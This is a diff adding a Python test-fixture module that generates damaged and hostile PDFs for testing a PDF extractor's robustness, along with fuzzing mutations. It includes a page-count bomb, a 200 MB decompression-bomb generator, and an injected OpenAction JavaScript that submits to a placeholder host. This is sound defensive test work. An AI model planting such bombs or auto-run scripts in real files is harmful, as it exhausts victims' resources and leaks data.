@@ -1,0 +1,276 @@
+"""Bad and hostile input made from the committed samples: what folders collected from the web hold.
+
+Two kinds, both deterministic:
+- named bad files (:data:`BAD_FILES`): a scanned report, a report whose fonts lost their Unicode
+  map, a truncated download, an HTML page saved as .pdf, encrypted files, a page-count bomb, a
+  stream bomb ... each with the error code (or status) the extractor must end with;
+- mutations for fuzzing (:func:`mutate`): byte flips, truncation, duplicated or deleted objects,
+  a broken cross-reference table, applied to a sample's bytes with a seeded random generator.
+"""
+
+from __future__ import annotations
+
+import random
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import pymupdf
+import regex
+
+# --- scanned reports ------------------------------------------------------------------------
+
+
+def scanned(src: Path, out: Path, pages: list[int] | None = None, keep_text: tuple[int, ...] = (),
+            dpi: int = 200) -> Path:
+    """``src``'s pages (1-based ``pages``, default all) as a scan: each page rendered to a grey image
+    at ``dpi`` and placed on an otherwise empty page, as a scanner's PDF has it. Pages listed in
+    ``keep_text`` are copied with their text layer instead (a report whose statements were scanned)."""
+    doc = pymupdf.open(src)
+    res = pymupdf.open()
+    for number in pages or range(1, doc.page_count + 1):
+        page = doc[number - 1]
+        if number in keep_text:
+            res.insert_pdf(doc, from_page=number - 1, to_page=number - 1)
+            continue
+        pix = page.get_pixmap(dpi=dpi, colorspace=pymupdf.csGRAY)
+        new = res.new_page(width=page.rect.width, height=page.rect.height)
+        new.insert_image(new.rect, stream=pix.tobytes("jpeg", jpg_quality=85))
+    res.save(out, garbage=3, deflate=True)
+    return out
+
+
+# --- text layers that decode to garbage ------------------------------------------------------
+
+
+def unmapped_fonts(src: Path, out: Path) -> Path:
+    """``src`` with every font's ToUnicode map removed: MuPDF then maps glyph codes through the
+    font's own encoding, and the text comes out as control characters and symbol mixes."""
+    doc = pymupdf.open(src)
+    for xref in range(1, doc.xref_length()):
+        try:
+            if doc.xref_get_key(xref, "ToUnicode")[0] != "null":
+                doc.xref_set_key(xref, "ToUnicode", "null")
+        except Exception:  # noqa: BLE001, S112 - a free or broken object slot
+            continue
+    doc.save(out)
+    return out
+
+
+def scrambled_map(src: Path, out: Path, seed: int = 7) -> Path:
+    """``src`` with every ToUnicode map rewritten to send each glyph to a printable Latin or symbol
+    character: text that decodes, but to nonsense ("ÆqÓ}Ñ..."), as a PDF with a wrong map has it."""
+    rnd = random.Random(seed)
+    doc = pymupdf.open(src)
+    pool = [chr(c) for c in range(0x21, 0x7F)] + [chr(c) for c in range(0xC0, 0x180)]
+    for xref in range(1, doc.xref_length()):
+        try:
+            kind, value = doc.xref_get_key(xref, "ToUnicode")
+        except Exception:  # noqa: BLE001, S112 - a free or broken object slot
+            continue
+        if kind != "xref":
+            continue
+        cmap_xref = int(value.split()[0])
+        cmap = doc.xref_stream(cmap_xref).decode("latin-1")
+
+        def remap(m: regex.Match[str]) -> str:
+            return f"<{m.group(1)}> <{ord(rnd.choice(pool)):04X}>"
+
+        cmap = regex.sub(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]{4,})>", remap, cmap)
+        cmap = regex.sub(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]{4,})>",
+                         lambda m: f"<{m.group(1)}> <{m.group(2)}> <{ord(rnd.choice(pool)):04X}>", cmap)
+        doc.update_stream(cmap_xref, cmap.encode("latin-1"))
+    doc.save(out)
+    return out
+
+
+# --- damaged, encrypted, not a PDF -----------------------------------------------------------
+
+
+def truncated(src: Path, out: Path, keep: float) -> Path:
+    """The first ``keep`` share of the file's bytes: an interrupted download."""
+    data = src.read_bytes()
+    out.write_bytes(data[: int(len(data) * keep)])
+    return out
+
+
+def encrypted(src: Path, out: Path, user_pw: str = "", owner_pw: str = "owner-secret") -> Path:
+    """``src`` encrypted (AES-256). With a user password it cannot be opened without one; with only
+    an owner password it opens, with copying and printing restricted."""
+    doc = pymupdf.open(src)
+    perm = pymupdf.PDF_PERM_ACCESSIBILITY if not user_pw else -1
+    doc.save(out, encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw=user_pw, owner_pw=owner_pw, permissions=perm)
+    return out
+
+
+HTML_PAGE = """<!DOCTYPE html>
+<html lang="zh-CN"><head><meta charset="utf-8"><title>登录 - 巨潮资讯网</title></head>
+<body><p>您请求的文件需要登录后下载。<a href="/login">登录</a></p></body></html>
+"""
+
+
+def page_count_bomb(out: Path, pages: int) -> Path:
+    """A PDF with ``pages`` pages that all draw one shared content stream: a few bytes per page to
+    store, a full page's work each to read."""
+    text = b"BT /F1 10 Tf 72 770 Td (Filler page of a page-count bomb: nothing to read here.) Tj ET"
+    first = 5
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        f"<< /Type /Pages /Count {pages} /Kids [{' '.join(f'{first + i} 0 R' for i in range(pages))}] >>".encode(),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        f"<< /Length {len(text)} >>\nstream\n".encode() + text + b"\nendstream",
+    ]
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
+    objects.extend(page for _ in range(pages))
+    out.write_bytes(raw_pdf(objects))
+    return out
+
+
+def raw_pdf(objects: list[bytes]) -> bytes:
+    """A PDF file from object bodies (object 1 is the catalog), with a correct xref table."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for n, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += f"{n} 0 obj\n".encode() + body + b"\nendobj\n"
+    xref = len(out)
+    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
+    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    return bytes(out)
+
+
+def stream_bomb(out: Path, megabytes: int = 200) -> Path:
+    """One page whose content stream inflates from a few hundred kB to ``megabytes`` MB of blanks."""
+    raw = zlib.compress(b" " * (megabytes << 20), 9)
+    out.write_bytes(raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
+        f"<< /Length {len(raw)} /Filter /FlateDecode >>\nstream\n".encode() + raw + b"\nendstream",
+    ]))
+    return out
+
+
+def javascript(src: Path, out: Path) -> Path:
+    """``src`` with a document-level OpenAction script and a launch action: never to be run."""
+    doc = pymupdf.open(src)
+    cat = doc.pdf_catalog()
+    js = doc.get_new_xref()
+    doc.update_object(js, "<< /Type /Action /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://example.invalid/')) >>")
+    doc.xref_set_key(cat, "OpenAction", f"{js} 0 R")
+    doc.save(out)
+    return out
+
+
+# --- named bad files -------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class BadFile:
+    name: str
+    make: Callable[[Path, Path], Path]  # (samples folder, output path) -> path
+    code: str  # error code, or "ok" / "partial" when the file must still be read
+    hint: str  # a phrase the message must contain (what to do)
+
+
+def _bytes(data: bytes) -> Callable[[Path, Path], Path]:
+    def make(_samples: Path, out: Path) -> Path:
+        out.write_bytes(data)
+        return out
+    return make
+
+
+BAD_FILES: tuple[BadFile, ...] = (
+    BadFile("empty", _bytes(b""), "not_a_pdf", "download"),
+    BadFile("html_saved_as_pdf", _bytes(HTML_PAGE.encode()), "not_a_pdf", "HTML page"),
+    BadFile("random_bytes", _bytes(random.Random(3).randbytes(50_000)), "not_a_pdf", "download"),
+    BadFile("zip_archive", _bytes(b"PK\x03\x04" + bytes(200)), "not_a_pdf", "ZIP"),
+    BadFile("png_image", _bytes(b"\x89PNG\r\n\x1a\n" + bytes(200)), "not_a_pdf", "img2pdf"),
+    BadFile("header_only", _bytes(b"%PDF-1.7\n%%EOF\n"), "damaged", "download it again"),
+    BadFile("truncated_10pc", lambda s, o: truncated(s / "s02_ashare_libreoffice.pdf", o, 0.10), "damaged",
+            "download it again"),
+    BadFile("truncated_60pc", lambda s, o: truncated(s / "s02_ashare_libreoffice.pdf", o, 0.60), "damaged",
+            "download it again"),
+    BadFile("truncated_97pc", lambda s, o: truncated(s / "s01_bse_reportlab.pdf", o, 0.97), "ok", ""),
+    BadFile("user_password", lambda s, o: encrypted(s / "s01_bse_reportlab.pdf", o, user_pw="open-me"),
+            "encrypted", "--password"),
+    BadFile("owner_password_only", lambda s, o: encrypted(s / "s01_bse_reportlab.pdf", o), "ok", ""),
+    BadFile("fonts_without_unicode_map", lambda s, o: unmapped_fonts(s / "s02_ashare_libreoffice.pdf", o),
+            "garbled_text", "another copy"),
+    BadFile("scrambled_unicode_map", lambda s, o: scrambled_map(s / "s02_ashare_libreoffice.pdf", o),
+            "garbled_text", "another copy"),
+    BadFile("no_statement", lambda s, o: _pages(s / "s01_bse_reportlab.pdf", o, list(range(1, 11))),
+            "no_income_statement", "--patterns"),
+    BadFile("javascript_open_action", lambda s, o: javascript(s / "s06_us_chromium.pdf", o), "ok", ""),
+    BadFile("stream_bomb", lambda s, o: stream_bomb(o), "no_text_layer", "another copy"),
+    BadFile("page_count_bomb", lambda s, o: page_count_bomb(o, 6000), "no_income_statement", "max_pages"),
+    BadFile("scanned_no_ocr_budget", lambda s, o: scanned(s / "s06_us_chromium.pdf", o, pages=[1, 4, 9]),
+            "no_text_layer", "ocrmypdf"),
+)
+
+
+def _pages(src: Path, out: Path, pages: list[int]) -> Path:
+    doc = pymupdf.open(src)
+    doc.select([p - 1 for p in pages])
+    doc.save(out, garbage=3)
+    return out
+
+
+# --- fuzzing ---------------------------------------------------------------------------------
+
+MUTATIONS = ("flip_bytes", "truncate", "duplicate_object", "delete_object", "break_xref", "zero_run",
+             "shuffle_lines")
+
+
+def mutate(data: bytes, kind: str, rnd: random.Random) -> bytes:
+    """One deterministic mutation of a PDF's bytes."""
+    b = bytearray(data)
+    n = len(b)
+    if kind == "flip_bytes":
+        for _ in range(rnd.choice((1, 4, 16, 64))):
+            i = rnd.randrange(n)
+            b[i] ^= 1 << rnd.randrange(8)
+        return bytes(b)
+    if kind == "truncate":
+        return bytes(b[: rnd.randrange(16, n)])
+    if kind == "zero_run":
+        i = rnd.randrange(n)
+        length = rnd.choice((8, 256, 4096))
+        b[i:i + length] = bytes(min(length, n - i))
+        return bytes(b)
+    objs = [m.span() for m in regex.finditer(rb"\d+ \d+ obj\b.*?endobj", data, flags=regex.DOTALL)]
+    if kind == "duplicate_object" and objs:
+        s, e = rnd.choice(objs)
+        at = rnd.choice(objs)[0]
+        return data[:at] + data[s:e] + b"\n" + data[at:]
+    if kind == "delete_object" and objs:
+        s, e = rnd.choice(objs)
+        return data[:s] + data[e:]
+    if kind == "break_xref":
+        m = list(regex.finditer(rb"startxref\s+(\d+)", data))
+        if m:
+            last = m[-1]
+            bogus = str(rnd.randrange(n * 2)).encode()
+            return data[:last.start(1)] + bogus + data[last.end(1):]
+        return data.replace(b"xref", b"xreF", 1)
+    if kind == "shuffle_lines":
+        lines = data.split(b"\n")
+        i = rnd.randrange(len(lines))
+        j = rnd.randrange(len(lines))
+        lines[i], lines[j] = lines[j], lines[i]
+        return b"\n".join(lines)
+    return bytes(b)
+
+
+def fuzz_cases(samples: list[Path], count: int, seed: int) -> list[tuple[str, bytes]]:
+    """``count`` mutated files, (name, bytes), cycling through samples and mutation kinds."""
+    rnd = random.Random(seed)
+    originals = [(p.stem, p.read_bytes()) for p in samples]
+    cases = []
+    for k in range(count):
+        stem, data = originals[k % len(originals)]
+        kind = MUTATIONS[(k // len(originals)) % len(MUTATIONS)]
+        cases.append((f"{k:04d}_{stem}_{kind}", mutate(data, kind, rnd)))
+    return cases
